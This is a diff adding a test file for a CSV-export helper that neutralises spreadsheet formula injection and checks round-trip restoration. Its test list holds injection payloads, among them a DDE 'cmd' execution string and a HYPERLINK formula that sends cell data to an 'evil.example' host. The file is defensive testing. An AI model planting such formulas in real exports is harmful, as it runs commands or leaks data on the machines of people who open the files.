@@ -1,0 +1,61 @@
+"""Cells that a spreadsheet would calculate are defused, and what an import reads back is what was exported."""
+
+import csv
+import io
+
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from postrider.kit.csv_cells import restored, rows_as_csv, safe
+
+STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULAS = [
+    "=cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    '"=1',
+    "'=1",
+    ";=1",
+    ",=1",
+    '",=1',
+    '=HYPERLINK("http://evil.example/?"&A1,"x")',
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_a_formula_begins_with_an_apostrophe(text):
+    assert safe(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", ["", "Ann", "-5", "+41791234567", "-1,5", "2.5", "a=b", "me@example.com", "'tis"])
+def test_other_text_stays_as_it_is(text):
+    assert safe(text) == text
+
+
+@given(st.text())
+@example("'=1")
+@example("''=1")
+@example("'tis")
+@example("'-5")
+def test_an_import_undoes_what_an_export_did(text):
+    assert restored(safe(text)) == text
+
+
+@given(st.lists(st.lists(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]))), max_size=4))
+def test_no_cell_of_a_file_is_a_formula(rows):
+    raw = rows_as_csv(rows).decode()
+    for row in csv.reader(io.StringIO(raw, newline="")):
+        for cell in row:
+            assert not cell.startswith(STARTS) or cell.lstrip("+-").replace(",", ".", 1).replace(".", "", 1).isdigit()
+
+
+@given(st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"])), st.sampled_from(STARTS))
+def test_a_value_cannot_break_out_of_its_cell(text, start):
+    rows = list(csv.reader(io.StringIO(rows_as_csv([["a", f'x"{text}\r\n{start}1', "b"]]).decode(), newline="")))
+    assert [len(row) for row in rows] == [3]
